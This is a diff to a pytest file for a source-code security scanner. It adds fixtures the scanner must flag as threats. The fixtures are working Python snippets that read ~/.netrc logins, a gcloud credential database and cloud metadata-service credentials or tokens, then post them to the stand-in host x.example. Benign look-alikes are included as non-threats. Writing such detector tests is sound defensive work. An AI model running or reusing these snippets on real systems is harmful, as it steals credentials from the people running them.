@@ -10,7 +10,7 @@ import pytest
 from caplet._findings import Severity
 from caplet._scan._model import ScanMode
 from caplet._scan._scanner import scan_source
-from tests._scan.prefilterkit import found_in_a_package
+from tests._scan.prefilterkit import found_in_a_package, tree_both_ways
 
 
 def danger(source: str) -> set[str]:
@@ -63,3 +63,67 @@ def test_text_codecs_into_a_sink_are_found_with_the_prefilter_too(
 )
 def test_text_codecs_beside_sinks_they_do_not_reach_are_not_threats(source: str) -> None:
     assert "CPL-THR-001" not in danger(source)
+
+
+#: blind15 (tune b15-re-netrc-module, -gcloud-sqlite, -imds-credentials): credentials
+#: read without a literal path the indicators know: netrc's parser (it finds ~/.netrc
+#: itself), a cloud CLI's credential database opened with sqlite3, the instance role's
+#: credentials or token asked of the cloud metadata service; each sent to a fixed host.
+CREDENTIALS_SENT = [
+    "import netrc, requests\n"
+    "hosts = netrc.netrc().hosts\n"
+    "requests.post('https://x.example/b', json={h: v[2] for h, v in hosts.items()})\n",
+    "import os, sqlite3, requests\n"
+    "con = sqlite3.connect(os.path.expanduser('~/.config/gcloud/credentials.db'))\n"
+    "rows = con.execute('select * from credentials').fetchall()\n"
+    "requests.post('https://x.example/s', json={'rows': rows})\n",
+    "import requests\n"
+    "MD = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'\n"
+    "role = requests.get(MD).text\n"
+    "creds = requests.get(MD + role).json()\n"
+    "requests.post('https://x.example/r', json=creds)\n",
+    "import urllib.request, http.client\n"
+    "req = urllib.request.Request('http://metadata.google.internal/computeMetadata/v1/"
+    "instance/service-accounts/default/token', headers={'Metadata-Flavor': 'Google'})\n"
+    "tok = urllib.request.urlopen(req).read()\n"
+    "c = http.client.HTTPSConnection('x.example')\nc.request('POST', '/t', tok)\n",
+]
+
+
+@pytest.mark.parametrize("source", CREDENTIALS_SENT)
+def test_credentials_read_by_parser_database_or_metadata_and_sent_are_threats(
+    source: str,
+) -> None:
+    assert danger(source)
+
+
+@pytest.mark.parametrize("source", CREDENTIALS_SENT)
+def test_credentials_read_and_sent_are_found_with_the_prefilter_too(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
+) -> None:
+    (tmp_path / "mod.py").write_text(source, encoding="utf-8")
+    filtered, whole = tree_both_ways(tmp_path, monkeypatch)
+    assert whole
+    assert filtered == whole
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # an HTTP client's own netrc lookup (requests.utils.get_netrc_auth): the login
+        # goes with the request to the host it is for, whose URL the caller gives
+        "import netrc\n"
+        "def get_auth(url, host):\n"
+        "    login, _, password = netrc.netrc().authenticators(host)\n"
+        "    return login, password\n",
+        # a cloud SDK asking the metadata service for the instance's region only
+        "import requests\n"
+        "region = requests.get('http://169.254.169.254/latest/meta-data/placement/region').text\n"
+        "print(region)\n",
+        # an application's own SQLite database, sent nowhere
+        "import sqlite3\ncon = sqlite3.connect('app.db')\n"
+        "print(con.execute('select 1').fetchall())\n",
+    ],
+)
+def test_credential_readers_that_send_nothing_are_not_threats(source: str) -> None:
+    assert not danger(source)
